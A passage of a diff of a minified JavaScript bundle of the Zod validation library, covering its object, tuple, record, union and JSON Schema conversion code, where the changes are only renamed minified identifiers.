-invalid_type",input:le,inst:a}),j;j.value=G?G.alloc(a,j,{},J):{};const De=[],he=R.shape,ge=J?.abortEarly;let Ye=j.issues.
-length;for(const Ve of R.allKeys){if(ge&&j.issues.length!==Ye){if(r.QH(j,Ye))break;Ye=j.issues.length}if(Ve==="__proto__")
-continue;const Et=he[Ve],Tn=Et._zod.optin,br=Et._zod.optout,_r=Et._zod.run({value:le[Ve],issues:[]},J);_r instanceof Promise?
-De.push(_r.then(Pt=>$t(Pt,j,Ve,le,Tn,br))):$t(_r,j,Ve,le,Tn,br)}return v?Hn(De,le,j,J,m.value,a,ge===!0):De.length?Promise.
-all(De).then(()=>j):j}}),ir=s.xI("$ZodObjectJIT",(a,u)=>{Fs.init(a,u);const f=a._zod.parse,p=r.PO(()=>jt(u)),m=s.cr.memoizer,
-w=he=>{const ge=p.value,Ye=ge.symbolKeys,Ve=new S(["payload","ctx"],{shape:he,inst:a,memo:m,syms:Ye}),Et=Pt=>`shape[${Pt}\
-]._zod.run({ value: input[${Pt}], issues: [] }, ctx)`,Tn=(Pt,xt)=>`
+invalid_type",input:le,inst:a}),j;j.value=G?G.alloc(a,j,{},J):{};const De=[],he=R.shape,Ce=J?.abortEarly;let Ye=j.issues.
+length;for(const Ve of R.allKeys){if(Ce&&j.issues.length!==Ye){if(r.QH(j,Ye))break;Ye=j.issues.length}if(Ve==="__proto__")
+continue;const Et=he[Ve],In=Et._zod.optin,br=Et._zod.optout,_r=Et._zod.run({value:le[Ve],issues:[]},J);_r instanceof Promise?
+De.push(_r.then(Pt=>$t(Pt,j,Ve,le,In,br))):$t(_r,j,Ve,le,In,br)}return v?Hn(De,le,j,J,m.value,a,Ce===!0):De.length?Promise.
+all(De).then(()=>j):j}}),ir=s.xI("$ZodObjectJIT",(a,u)=>{Ps.init(a,u);const f=a._zod.parse,p=r.PO(()=>jt(u)),m=s.cr.memoizer,
+w=he=>{const Ce=p.value,Ye=Ce.symbolKeys,Ve=new S(["payload","ctx"],{shape:he,inst:a,memo:m,syms:Ye}),Et=Pt=>`shape[${Pt}\
+]._zod.run({ value: input[${Pt}], issues: [] }, ctx)`,In=(Pt,xt)=>`
           let ${Pt}_ab = false;
           for (let i = 0; i < ${Pt}.issues.length; i++) {
             const iss = ${Pt}.issues[i];
@@ -2039,38 +2042,38 @@ w=he=>{const ge=p.value,Ye=ge.symbolKeys,Ve=new S(["payload","ctx"],{shape:he,in
           if (${Pt}_ab && ctx && ctx.abortEarly) {
             payload.value = newResult;
             return payload;
-          }`;Ve.write("const input = payload.value;");const br=Object.create(null);let _r=0;for(const Pt of ge.allKeys)br[Pt]=
-`key_${_r++}`;Ve.write(m?"const newResult = memo.alloc(inst, payload, {}, ctx);":"const newResult = {};");for(const Pt of ge.
-allKeys){if(Pt==="__proto__")continue;const xt=br[Pt],In=typeof Pt=="symbol"?`syms[${Ye.indexOf(Pt)}]`:r.UQ(Pt),ea=`${In}\
- in input`,Ol=he[Pt],ta=Ol?._zod?.optin,Al=ta!==void 0,ny=Ol?._zod?.optout==="optional";if(Ve.write(`const ${xt} = ${Et(
-In)};`),Al&&ny){const sy=ta==="optional"?`${xt}_present`:`${xt}.value !== undefined || ${xt}_present`;Ve.write(`
-        const ${xt}_present = ${ea};
+          }`;Ve.write("const input = payload.value;");const br=Object.create(null);let _r=0;for(const Pt of Ce.allKeys)br[Pt]=
+`key_${_r++}`;Ve.write(m?"const newResult = memo.alloc(inst, payload, {}, ctx);":"const newResult = {};");for(const Pt of Ce.
+allKeys){if(Pt==="__proto__")continue;const xt=br[Pt],$n=typeof Pt=="symbol"?`syms[${Ye.indexOf(Pt)}]`:r.UQ(Pt),ta=`${$n}\
+ in input`,Al=he[Pt],na=Al?._zod?.optin,Sl=na!==void 0,ay=Al?._zod?.optout==="optional";if(Ve.write(`const ${xt} = ${Et(
+$n)};`),Sl&&ay){const cy=na==="optional"?`${xt}_present`:`${xt}.value !== undefined || ${xt}_present`;Ve.write(`
+        const ${xt}_present = ${ta};
         if (!${xt}.issues.length || ${xt}_present) {
-          if (${xt}.issues.length) {${Tn(xt,In)}
+          if (${xt}.issues.length) {${In(xt,$n)}
           }
 
-          if (${sy}) {
-            newResult[${In}] = ${xt}.value;
+          if (${cy}) {
+            newResult[${$n}] = ${xt}.value;
           }
         }
 
-      `)}else Al?(Ve.write(`
-        if (${xt}.issues.length) {${Tn(xt,In)}
+      `)}else Sl?(Ve.write(`
+        if (${xt}.issues.length) {${In(xt,$n)}
         }
-      `),ta==="defaulted"?Ve.write(`newResult[${In}] = ${xt}.value;`):Ve.write(`
-        if (${xt}.value !== undefined || ${ea}) {
-          newResult[${In}] = ${xt}.value;
+      `),na==="defaulted"?Ve.write(`newResult[${$n}] = ${xt}.value;`):Ve.write(`
+        if (${xt}.value !== undefined || ${ta}) {
+          newResult[${$n}] = ${xt}.value;
         }
       `)):Ve.write(`
-        const ${xt}_present = ${ea};
-        if (${xt}.issues.length) {${Tn(xt,In)}
+        const ${xt}_present = ${ta};
+        if (${xt}.issues.length) {${In(xt,$n)}
         }
         if (!${xt}_present && !${xt}.issues.length) {
           payload.issues.push({
             code: "invalid_type",
             expected: "nonoptional",
             input: undefined,
-            path: [${In}]
+            path: [${$n}]
           });
           if (ctx && ctx.abortEarly) {
             payload.value = newResult;
@@ -2079,13 +2082,13 @@ In)};`),Al&&ny){const sy=ta==="optional"?`${xt}_present`:`${xt}.value !== undefi
         }
 
         if (${xt}_present) {
-          newResult[${In}] = ${xt}.value;
+          newResult[${$n}] = ${xt}.value;
         }
 
       `)}return Ve.write("payload.value = newResult;"),Ve.write("return payload;"),Ve.compile()};let v;const R=r.Gv,G=!s.
-cr.jitless,j=r.hI,J=G&&j.value,le=u.catchall;let De;a._zod.parse=(he,ge)=>{De??(De=p.value);const Ye=he.value;return R(Ye)?
-G&&J&&ge?.async===!1&&ge.jitless!==!0?(v||(v=w(u.shape)),he=v(he,ge),le?Hn([],Ye,he,ge,De,a,ge?.abortEarly===!0):he):f(he,
-ge):(he.issues.push({expected:"object",code:"invalid_type",input:Ye,inst:a}),he)}});function or(a,u,f,p){for(const w of a)
+cr.jitless,j=r.hI,J=G&&j.value,le=u.catchall;let De;a._zod.parse=(he,Ce)=>{De??(De=p.value);const Ye=he.value;return R(Ye)?
+G&&J&&Ce?.async===!1&&Ce.jitless!==!0?(v||(v=w(u.shape)),he=v(he,Ce),le?Hn([],Ye,he,Ce,De,a,Ce?.abortEarly===!0):he):f(he,
+Ce):(he.issues.push({expected:"object",code:"invalid_type",input:Ye,inst:a}),he)}});function or(a,u,f,p){for(const w of a)
 if(w.issues.length===0)return u.value=w.value,u;const m=a.filter(w=>!r.QH(w));return m.length===1?(u.value=m[0].value,m[0]):
 (u.issues.push({code:"invalid_union",input:u.value,inst:f,errors:a.map(w=>w.issues.map(v=>r.iR(v,p,s.$W())))}),u)}const Kr=s.
 xI("$ZodUnion",(a,u)=>{W.init(a,u),r.v5(a,"optin",p=>p.def.options.some(m=>m._zod.optin==="defaulted")?"defaulted":p.def.
@@ -2103,33 +2106,33 @@ optionsMap;p||(p=cr(f.def),f.bag.optionsMap=p);const m=p.get(u);if(m===null)thro
 ue "${String(u)}"`);return m}function cr(a){const u=new Map;for(const f of a.options){const p=f._zod.propValues?.[a.discriminator];
 if(!p||p.size===0)throw new Error(`Invalid discriminated union option at index "${a.options.indexOf(f)}"`);for(const m of p)
 if(u.has(m)){if(m!==void 0)throw new Error(`Duplicate discriminator value "${String(m)}"`);u.set(m,null)}else u.set(m,f)}
-return u}const So=null,Vr=s.xI("$ZodIntersection",(a,u)=>{W.init(a,u),a._zod.parse=(f,p)=>{const m=f.value,w=u.left._zod.
+return u}const To=null,Vr=s.xI("$ZodIntersection",(a,u)=>{W.init(a,u),a._zod.parse=(f,p)=>{const m=f.value,w=u.left._zod.
 run({value:m,issues:[]},p),v=u.right._zod.run({value:m,issues:[]},p);return w instanceof Promise||v instanceof Promise?Promise.
-all([w,v]).then(([G,j])=>ur(f,G,j)):ur(f,w,v)}});function Ps(a,u){if(a===u)return{valid:!0,data:a};if(a instanceof Date&&
+all([w,v]).then(([G,j])=>ur(f,G,j)):ur(f,w,v)}});function Ls(a,u){if(a===u)return{valid:!0,data:a};if(a instanceof Date&&
 u instanceof Date&&+a==+u)return{valid:!0,data:a};if(r.Qd(a)&&r.Qd(u)){const f=Object.keys(u),p=Object.keys(a).filter(w=>f.
 indexOf(w)!==-1),m={...a,...u};Object.prototype.hasOwnProperty.call(m,"__proto__")&&delete m.__proto__;for(const w of p){
-if(w==="__proto__")continue;const v=Ps(a[w],u[w]);if(!v.valid)return{valid:!1,mergeErrorPath:[w,...v.mergeErrorPath]};m[w]=
+if(w==="__proto__")continue;const v=Ls(a[w],u[w]);if(!v.valid)return{valid:!1,mergeErrorPath:[w,...v.mergeErrorPath]};m[w]=
 v.data}return{valid:!0,data:m}}if(Array.isArray(a)&&Array.isArray(u)){if(a.length!==u.length)return{valid:!1,mergeErrorPath:[]};
-const f=[];for(let p=0;p<a.length;p++){const m=a[p],w=u[p],v=Ps(m,w);if(!v.valid)return{valid:!1,mergeErrorPath:[p,...v.
+const f=[];for(let p=0;p<a.length;p++){const m=a[p],w=u[p],v=Ls(m,w);if(!v.valid)return{valid:!1,mergeErrorPath:[p,...v.
 mergeErrorPath]};f.push(v.data)}return{valid:!0,data:f}}return{valid:!1,mergeErrorPath:[]}}function ur(a,u,f){const p=new Map;
 let m;const w=new Map,v=(j,J)=>{let le;if(j.code==="unrecognized_keys"&&!j.path?.length)m??(m=j),le=j.keys;else if(j.code===
 "invalid_key"&&j.origin==="record"&&j.path?.length===1){const De=String(j.path[0]);w.has(De)||w.set(De,j),le=[De]}else return!1;
 for(const De of le)p.has(De)||p.set(De,{}),p.get(De)[J]=!0;return!0};for(const j of u.issues)v(j,"l")||a.issues.push(j);
 for(const j of f.issues)v(j,"r")||a.issues.push(j);const R=[...p].filter(([,j])=>j.l&&j.r).map(([j])=>j);if(R.length){const j=m?
 R.filter(J=>m.keys.includes(J)):[];j.length&&a.issues.push({...m,keys:j});for(const J of R)!j.includes(J)&&w.has(J)&&a.issues.
-push(w.get(J))}const G=Ps(u.value,f.value);if(!G.valid){if(r.QH(a))return a;throw new Error(`Unmergable intersection. Er\
+push(w.get(J))}const G=Ls(u.value,f.value);if(!G.valid){if(r.QH(a))return a;throw new Error(`Unmergable intersection. Er\
 ror path: ${JSON.stringify(G.mergeErrorPath)}`)}return a.value=G.data,a}const Qr=s.xI("$ZodTuple",(a,u)=>{W.init(a,u);const f=u.
 items,p=s.cr.memoizer;p?.attach(a),a._zod.parse=(m,w)=>{const v=m.value;if(!Array.isArray(v))return m.issues.push({input:v,
-inst:a,expected:"tuple",code:"invalid_type"}),m;m.value=p?p.alloc(a,m,[],w):[];const R=[],G=Ls(f,"optin"),j=Ls(f,"optout");
+inst:a,expected:"tuple",code:"invalid_type"}),m;m.value=p?p.alloc(a,m,[],w):[];const R=[],G=js(f,"optin"),j=js(f,"optout");
 if(!u.rest){if(v.length<G)return m.issues.push({code:"too_small",minimum:G,inclusive:!0,input:v,inst:a,origin:"array"}),
 m;v.length>f.length&&m.issues.push({code:"too_big",maximum:f.length,inclusive:!0,input:v,inst:a,origin:"array"})}const J=new Array(
-f.length),le=u.rest?w?.abortEarly:void 0;let De=!1;for(let he=0;he<f.length;he++){const ge=f[he]._zod.run({value:v[he],issues:[]},
-w);ge instanceof Promise?R.push(ge.then(Ye=>{J[he]=Ye})):(J[he]=ge,le&&!De&&ge.issues.length&&(De=r.QH(ge)))}if(u.rest&&
-!De){let he=f.length-1;const ge=v.slice(f.length);let Ye=m.issues.length;for(const Ve of ge){if(le&&m.issues.length!==Ye){
+f.length),le=u.rest?w?.abortEarly:void 0;let De=!1;for(let he=0;he<f.length;he++){const Ce=f[he]._zod.run({value:v[he],issues:[]},
+w);Ce instanceof Promise?R.push(Ce.then(Ye=>{J[he]=Ye})):(J[he]=Ce,le&&!De&&Ce.issues.length&&(De=r.QH(Ce)))}if(u.rest&&
+!De){let he=f.length-1;const Ce=v.slice(f.length);let Ye=m.issues.length;for(const Ve of Ce){if(le&&m.issues.length!==Ye){
 if(r.QH(m,Ye))break;Ye=m.issues.length}he++;const Et=u.rest._zod.run({value:Ve,issues:[]},w);Et instanceof Promise?R.push(
-Et.then(Tn=>js(Tn,m,he))):js(Et,m,he)}}return R.length?Promise.all(R).then(()=>ds(J,m,f,v,j)):ds(J,m,f,v,j)}});function Ls(a,u){
+Et.then(In=>Ms(In,m,he))):Ms(Et,m,he)}}return R.length?Promise.all(R).then(()=>ds(J,m,f,v,j)):ds(J,m,f,v,j)}});function js(a,u){
 for(let f=a.length-1;f>=0;f--)if(!(u==="optin"?a[f]._zod.optin!==void 0:a[f]._zod.optout==="optional"))return f+1;return 0}
-function js(a,u,f){a.issues.length&&u.issues.push(...r.lQ(f,a.issues)),u.value[f]=a.value}function ds(a,u,f,p,m){for(let w=0;w<
+function Ms(a,u,f){a.issues.length&&u.issues.push(...r.lQ(f,a.issues)),u.value[f]=a.value}function ds(a,u,f,p,m){for(let w=0;w<
 f.length;w++){const v=a[w],R=w<p.length;if(!R&&w>=m&&f[w]._zod.optin==="optional"){u.value.length=w;break}if(v.issues.length){
 if(!R&&w>=m){u.value.length=w;break}u.issues.push(...r.lQ(w,v.issues))}u.value[w]=v.value}for(let w=u.value.length-1;w>=
 p.length&&(f[w]._zod.optout==="optional"&&u.value[w]===void 0);w--)u.value.length=w;return u}const lr=s.xI("$ZodRecord",
@@ -2138,19 +2141,19 @@ push({expected:"record",code:"invalid_type",input:w,inst:a}),p;const v=[],R=u.ke
 f?f.alloc(a,p,{},m):{};const G=new Set;for(const J of R)if(typeof J=="string"||typeof J=="number"||typeof J=="symbol"){if(G.
 add(typeof J=="number"?J.toString():J),J==="__proto__")continue;const le=u.keyType._zod.run({value:J,issues:[]},m);if(le instanceof
 Promise)throw new Error("Async schemas not supported in object keys currently");if(le.issues.length){p.issues.push({code:"\
-invalid_key",origin:"record",issues:le.issues.map(ge=>r.iR(ge,m,s.$W())),input:J,path:[J],inst:a});continue}const De=le.
+invalid_key",origin:"record",issues:le.issues.map(Ce=>r.iR(Ce,m,s.$W())),input:J,path:[J],inst:a});continue}const De=le.
 value;if(De==="__proto__")continue;const he=u.valueType._zod.run({value:w[J],issues:[]},m);he instanceof Promise?v.push(
-he.then(ge=>{ge.issues.length&&p.issues.push(...r.lQ(J,ge.issues)),p.value[De]=ge.value})):(he.issues.length&&p.issues.push(
+he.then(Ce=>{Ce.issues.length&&p.issues.push(...r.lQ(J,Ce.issues)),p.value[De]=Ce.value})):(he.issues.length&&p.issues.push(
 ...r.lQ(J,he.issues)),p.value[De]=he.value)}let j;for(const J in w)if(!G.has(J))if(u.mode==="loose"){if(J==="__proto__")
 continue;p.value[J]=w[J]}else j=j??[],j.push(J);j&&j.length>0&&p.issues.push({code:"unrecognized_keys",input:w,inst:a,keys:j,
 continue:!0})}else{p.value=f?f.alloc(a,p,{},m):{};let G;for(const j of Reflect.ownKeys(w)){if(j==="__proto__"||!Object.prototype.
 propertyIsEnumerable.call(w,j))continue;let J=u.keyType._zod.run({value:j,issues:[]},m);if(J instanceof Promise)throw new Error(
-"Async schemas not supported in object keys currently");if(typeof j=="string"&&Z.ai.test(j)&&J.issues.length){const ge=u.
-keyType._zod.run({value:Number(j),issues:[]},m);if(ge instanceof Promise)throw new Error("Async schemas not supported in\
- object keys currently");ge.issues.length===0&&(J=ge)}if(J.issues.length){u.mode==="loose"?p.value[j]=w[j]:R?(G=G??[],G.
-push(j)):p.issues.push({code:"invalid_key",origin:"record",issues:J.issues.map(ge=>r.iR(ge,m,s.$W())),input:j,path:[j],inst:a});
+"Async schemas not supported in object keys currently");if(typeof j=="string"&&Z.ai.test(j)&&J.issues.length){const Ce=u.
+keyType._zod.run({value:Number(j),issues:[]},m);if(Ce instanceof Promise)throw new Error("Async schemas not supported in\
+ object keys currently");Ce.issues.length===0&&(J=Ce)}if(J.issues.length){u.mode==="loose"?p.value[j]=w[j]:R?(G=G??[],G.
+push(j)):p.issues.push({code:"invalid_key",origin:"record",issues:J.issues.map(Ce=>r.iR(Ce,m,s.$W())),input:j,path:[j],inst:a});
 continue}const De=J.value;if(De==="__proto__")continue;const he=u.valueType._zod.run({value:w[j],issues:[]},m);he instanceof
-Promise?v.push(he.then(ge=>{ge.issues.length&&p.issues.push(...r.lQ(j,ge.issues)),p.value[De]=ge.value})):(he.issues.length&&
+Promise?v.push(he.then(Ce=>{Ce.issues.length&&p.issues.push(...r.lQ(j,Ce.issues)),p.value[De]=Ce.value})):(he.issues.length&&
 p.issues.push(...r.lQ(j,he.issues)),p.value[De]=he.value)}G&&G.length>0&&p.issues.push({code:"unrecognized_keys",input:w,
 inst:a,keys:G,continue:!0})}return v.length?Promise.all(v).then(()=>p):p}}),dr=null;function Xr(a,u,f,p,m,w,v){a.issues.
 length&&(util.propertyKeyTypes.has(typeof p)?f.issues.push(...util.prefixIssues(p,a.issues)):f.issues.push({code:"invali\
@@ -2167,12 +2170,12 @@ parse=(p,m)=>{const w=p.value;return f.has(w)||p.issues.push({code:"invalid_valu
 nt=null,It=s.xI("$ZodTransform",(a,u)=>{W.init(a,u),a._zod.optin="optional",s.cr.memoizer?.guard(a),a._zod.parse=(f,p)=>{
 if(p.direction==="backward")throw new s.cV(a.constructor.name);const m=u.transform(f.value,f);if(p.async)return(m instanceof
 Promise?m:Promise.resolve(m)).then(v=>(f.value=v,f));if(m instanceof Promise)throw new s.GT;return f.value=m,f}});function ut(a,u){
-return a.value=u.issues.length?void 0:u.value,a}const Vt=s.xI("$ZodOptional",(a,u)=>{W.init(a,u),r.v5(a,"optin",f=>f.def.
+return a.value=u.issues.length?void 0:u.value,a}const Qt=s.xI("$ZodOptional",(a,u)=>{W.init(a,u),r.v5(a,"optin",f=>f.def.
 innerType._zod.optin==="defaulted"?"defaulted":"optional"),a._zod.optout="optional",r.v5(a,"values",f=>{const p=f.def.innerType.
 _zod.values;return p?new Set([...p,void 0]):void 0}),r.v5(a,"pattern",f=>{const p=f.def.innerType._zod.pattern;return p?
 new RegExp(`^(${r.p6(p.source)})?$`):void 0}),a._zod.parse=(f,p)=>{if(f.value===void 0){if(u.innerType._zod.optin!=="def\
 aulted")return f;const m=u.innerType._zod.run({value:f.value,issues:[]},p);return m instanceof Promise?m.then(w=>ut(f,w)):
-ut(f,m)}return u.innerType._zod.run(f,p)}}),Xn=s.xI("$ZodExactOptional",(a,u)=>{Vt.init(a,u),r.v5(a,"values",f=>f.def.innerType.
+ut(f,m)}return u.innerType._zod.run(f,p)}}),Xn=s.xI("$ZodExactOptional",(a,u)=>{Qt.init(a,u),r.v5(a,"values",f=>f.def.innerType.
 _zod.values),r.v5(a,"pattern",f=>f.def.innerType._zod.pattern),a._zod.parse=(f,p)=>u.innerType._zod.run(f,p)}),bn=s.xI("\
 $ZodNullable",(a,u)=>{W.init(a,u),r.v5(a,"optin",f=>f.def.innerType._zod.optin),r.v5(a,"optout",f=>f.def.innerType._zod.
 optout),r.v5(a,"pattern",f=>{const p=f.def.innerType._zod.pattern;return p?new RegExp(`^(${r.p6(p.source)}|null)$`):void 0}),
@@ -2180,9 +2183,9 @@ r.v5(a,"values",f=>f.def.innerType._zod.values?new Set([...f.def.innerType._zod.
 value===null?f:u.innerType._zod.run(f,p)}),zn=s.xI("$ZodDefault",(a,u)=>{W.init(a,u),a._zod.optin="defaulted",r.v5(a,"va\
 lues",f=>f.def.innerType._zod.values),a._zod.parse=(f,p)=>{if(p.direction==="backward")return u.innerType._zod.run(f,p);
 if(f.value===void 0)return f.value=u.defaultValue,f;const m=u.innerType._zod.run(f,p);return m instanceof Promise?m.then(
-w=>Ms(w,u)):Ms(m,u)}});function Ms(a,u){return a.value===void 0&&(a.value=u.defaultValue),a}const Un=s.xI("$ZodPrefault",
+w=>Gs(w,u)):Gs(m,u)}});function Gs(a,u){return a.value===void 0&&(a.value=u.defaultValue),a}const Un=s.xI("$ZodPrefault",
 (a,u)=>{W.init(a,u),a._zod.optin="defaulted",r.v5(a,"values",f=>f.def.innerType._zod.values),a._zod.parse=(f,p)=>(p.direction===
-"backward"||f.value===void 0&&(f.value=u.defaultValue),u.innerType._zod.run(f,p))}),Sn=s.xI("$ZodNonOptional",(a,u)=>{W.
+"backward"||f.value===void 0&&(f.value=u.defaultValue),u.innerType._zod.run(f,p))}),Tn=s.xI("$ZodNonOptional",(a,u)=>{W.
 init(a,u),r.v5(a,"values",f=>{const p=f.def.innerType._zod.values;return p?new Set([...p].filter(m=>m!==void 0)):void 0}),
 a._zod.parse=(f,p)=>{const m=u.innerType._zod.run(f,p);return m instanceof Promise?m.then(w=>Mt(w,a)):Mt(m,a)}});function Mt(a,u){
 return!a.issues.length&&a.value===void 0&&a.issues.push({code:"invalid_type",expected:"nonoptional",input:a.value,inst:u}),
@@ -2191,26 +2194,26 @@ map(m=>r.iR(m,p,s.$W()))},input:a.value}),a):(a.value=u.value,u.memo&&(a.memo=!0
 init(a,u),r.v5(a,"optin",f=>f.def.innerType._zod.optin==="defaulted"?"defaulted":"optional"),r.v5(a,"optout",f=>f.def.innerType.
 _zod.optout),r.v5(a,"values",f=>f.def.innerType._zod.values),a._zod.parse=(f,p)=>{if(p.direction==="backward")return u.innerType.
 _zod.run(f,p);const m=u.innerType._zod.run({value:f.value,issues:[]},p);return m instanceof Promise?m.then(w=>_n(f,w,u,p)):
-_n(f,m,u,p)}}),To=null,Io=s.xI("$ZodPipe",(a,u)=>{W.init(a,u),r.v5(a,"values",f=>f.def.in._zod.values),r.v5(a,"optin",f=>f.
+_n(f,m,u,p)}}),Io=null,$o=s.xI("$ZodPipe",(a,u)=>{W.init(a,u),r.v5(a,"values",f=>f.def.in._zod.values),r.v5(a,"optin",f=>f.
 def.in._zod.optin),r.v5(a,"optout",f=>f.def.out._zod.optout),r.v5(a,"propValues",f=>f.def.in._zod.propValues),a._zod.parse=
 (f,p)=>{if(p.direction==="backward"){const w=u.out._zod.run(f,p);return w instanceof Promise?w.then(v=>Br(v,u.in,p)):Br(
 w,u.in,p)}const m=u.in._zod.run(f,p);return m instanceof Promise?m.then(w=>Br(w,u.out,p)):Br(m,u.out,p)}});function Br(a,u,f){
-return a.issues.some(p=>p.code!=="unrecognized_keys")?(a.aborted=!0,a):u._zod.run({value:a.value,issues:a.issues},f)}const ug=null;
-function $o(a,u,f){if(a.issues.length)return a.aborted=!0,a;if((f.direction||"forward")==="forward"){const m=u.transform(
+return a.issues.some(p=>p.code!=="unrecognized_keys")?(a.aborted=!0,a):u._zod.run({value:a.value,issues:a.issues},f)}const hg=null;
+function Ro(a,u,f){if(a.issues.length)return a.aborted=!0,a;if((f.direction||"forward")==="forward"){const m=u.transform(
 a.value,a);return m instanceof Promise?m.then(w=>es(a,w,u.out,f)):es(a,m,u.out,f)}else{const m=u.reverseTransform(a.value,
 a);return m instanceof Promise?m.then(w=>es(a,w,u.in,f)):es(a,m,u.in,f)}}function es(a,u,f,p){return a.issues.length?(a.
-aborted=!0,a):f._zod.run({value:u,issues:a.issues},p)}const Bu=null,Ro=s.xI("$ZodReadonly",(a,u)=>{W.init(a,u),r.v5(a,"p\
+aborted=!0,a):f._zod.run({value:u,issues:a.issues},p)}const fu=null,No=s.xI("$ZodReadonly",(a,u)=>{W.init(a,u),r.v5(a,"p\
 ropValues",f=>f.def.innerType._zod.propValues),r.v5(a,"values",f=>f.def.innerType._zod.values),r.v5(a,"optin",f=>f.def.innerType?.
 _zod?.optin),r.v5(a,"optout",f=>f.def.innerType?._zod?.optout),a._zod.parse=(f,p)=>{if(p.direction==="backward")return u.
 innerType._zod.run(f,p);const m=u.innerType._zod.run(f,p);return m instanceof Promise?m.then(ti):ti(m)}});function ti(a){
-return a.memo||(a.value=Object.freeze(a.value)),a}function No(a){const u=a._zod.def;let f=u.pattern,p=!!u.format?.includes(
+return a.memo||(a.value=Object.freeze(a.value)),a}function Fo(a){const u=a._zod.def;let f=u.pattern,p=!!u.format?.includes(
 "int"),m,w;for(const R of u.checks??[]){const G=R._zod.def;G.pattern&&(f=G.pattern),p||(p=!!G.format?.includes("int"));const j=G.
 minimum??G.length,J=G.maximum??G.length;j!==void 0&&(m===void 0||j>m)&&(m=j),J!==void 0&&(w===void 0||J<w)&&(w=J)}if(f)return f.
 source;if(m!==void 0&&w!==void 0&&m>w)return"(?!)";if(m!==void 0||w!==void 0)return regexes.string({minimum:m,maximum:w}).
 source;const v=a._zod.pattern;return(p&&v===regexes.number?regexes.integer:v)?.source}function ni(a){const u=a._zod.def,
 f=a._zod.pattern?.source,p=u.innerType??a._zod.innerType;if(p){const m=p._zod.pattern?.source,w=ni(p);return f&&m&&w&&w!==
 m?f.replace(util.cleanRegex(m),()=>util.cleanRegex(w)):f}if(u.options){const m=u.options.map(ni);if(m.every(Boolean))return`\
-^(${m.map(w=>util.cleanRegex(w)).join("|")})$`}return No(a)}const fu=null,hu=null,Jn=null,si=null,ri=s.xI("$ZodCustom",(a,u)=>{
+^(${m.map(w=>util.cleanRegex(w)).join("|")})$`}return Fo(a)}const hu=null,pu=null,Jn=null,si=null,ri=s.xI("$ZodCustom",(a,u)=>{
 Q.QP.init(a,u),W.init(a,u),a._zod.parse=(f,p)=>f,a._zod.check=f=>{const p=f.value,m=u.fn(p);if(m instanceof Promise)return m.
 then(w=>fr(w,f,p,a));fr(m,f,p,a)}});function fr(a,u,f,p){if(!a){const m={code:"custom",input:f,inst:p,path:[...p._zod.def.
 path??[]],continue:!p._zod.def.abort};p._zod.def.params&&(m.params=p._zod.def.params),u.issues.push(r.sn(m))}}var Zn=t(396),
@@ -2234,7 +2237,7 @@ a.sharedDefsExtractedFor===a.external)return;const p=new Map;for(const v of a.se
 get(v[0])?.id;if(R){const G=p.get(R);if(G&&G!==v[0])throw new Error(`Duplicate schema id "${R}" detected during JSON Sch\
 ema conversion. Two different schemas cannot share the same id when converted together.`);p.set(R,v[0])}}const m=v=>{const R=a.
 target==="draft-2020-12"?"$defs":"definitions";if(a.external){const le=a.external.registry.get(v[0])?.id,De=a.external.uri??
-(ge=>ge);if(le)return{ref:De(le)};const he=v[1].defId??v[1].schema.id??`schema${a.counter++}`;return v[1].defId=he,{defId:he,
+(Ce=>Ce);if(le)return{ref:De(le)};const he=v[1].defId??v[1].schema.id??`schema${a.counter++}`;return v[1].defId=he,{defId:he,
 ref:`${De("__shared")}#/${R}/${ii(he)}`}}const G="#",j=`${G}/${R}/`;if(v[1]===f&&!v[1].schema.id)return{ref:G};const J=v[1].
 schema.id??`__schema${a.counter++}`;return{defId:J,ref:j+ii(J)}},w=v=>{if(v[1].schema.$ref)return;const R=v[1],{ref:G,defId:j}=m(
 v);R.def={...R.schema},j&&(R.defId=j);const J=R.schema;for(const le in J)delete J[le];J.$ref=G};if(a.cycles==="throw")for(const v of a.
@@ -2248,28 +2251,28 @@ const f=[];for(const p of u){if(!p||typeof p!="object")return;ai(p);const m=Obje
 return;const w=p.type;for(const v of Array.isArray(w)?w:[w]){if(typeof v!="string")return;f.includes(v)||f.push(v)}}delete a.
 anyOf,a.type=f.length===1?f[0]:f}const ci=new Set(["type","properties","required","additionalProperties"]),ui=["oneOf","\
 anyOf"];function li(a){const u=a.additionalProperties;return u===void 0||u===!1||typeof u!="object"||u===null?null:Object.
-keys(u).length?u:null}function Gs(a){const u=[];for(const w of a){if(typeof w!="object"||w.type!=="object")return null;for(const v in w)
+keys(u).length?u:null}function Hs(a){const u=[];for(const w of a){if(typeof w!="object"||w.type!=="object")return null;for(const v in w)
 if(!ci.has(v))return null;u.push(w)}const f={},p=new Set;for(const w of u){for(const v in w.properties){if(Object.prototype.
 hasOwnProperty.call(f,v))continue;const R=[];for(const j of u){const J=j.properties?.[v]??li(j);J!=null&&(R.some(le=>JSON.
-stringify(le)===JSON.stringify(J))||R.push(J))}const G=R.length===1?R[0]:Gs(R)??{allOf:R};(0,r.Vy)(f,v,G)}for(const v of w.
+stringify(le)===JSON.stringify(J))||R.push(J))}const G=R.length===1?R[0]:Hs(R)??{allOf:R};(0,r.Vy)(f,v,G)}for(const v of w.
 required??[])p.add(v)}const m={type:"object",properties:f};if(p.size&&(m.required=[...p]),u.every(w=>w.additionalProperties===
 !1))m.additionalProperties=!1;else{const w=[];for(const v of u){const R=li(v);R&&!w.some(G=>JSON.stringify(G)===JSON.stringify(
-R))&&w.push(R)}w.length===1?m.additionalProperties=w[0]:w.length>1&&(m.additionalProperties={allOf:w})}return m}function Fo(a){
+R))&&w.push(R)}w.length===1?m.additionalProperties=w[0]:w.length>1&&(m.additionalProperties={allOf:w})}return m}function Po(a){
 const u=a.allOf;if(!Array.isArray(u)||u.length<2)return;for(const m of ci)if(m in a)return;const f=u.filter(m=>ui.some(w=>Array.
-isArray(m[w])));let p=null;if(!f.length)p=Gs(u);else{const m=f[0],w=ui.find(G=>Array.isArray(m[G]));if(Object.keys(m).length!==
-1)return;const v=u.filter(G=>G!==m),R=m[w].map(G=>Gs([...v,G]));if(R.some(G=>!G))return;p={[w]:R}}p&&(delete a.allOf,ts(
+isArray(m[w])));let p=null;if(!f.length)p=Hs(u);else{const m=f[0],w=ui.find(G=>Array.isArray(m[G]));if(Object.keys(m).length!==
+1)return;const v=u.filter(G=>G!==m),R=m[w].map(G=>Hs([...v,G]));if(R.some(G=>!G))return;p={[w]:R}}p&&(delete a.allOf,ts(
 a,p))}function di(a,u){const f=a.seen.get(u);if(!f)throw new Error("Unprocessed schema. This is a bug in Zod.");const p=R=>{
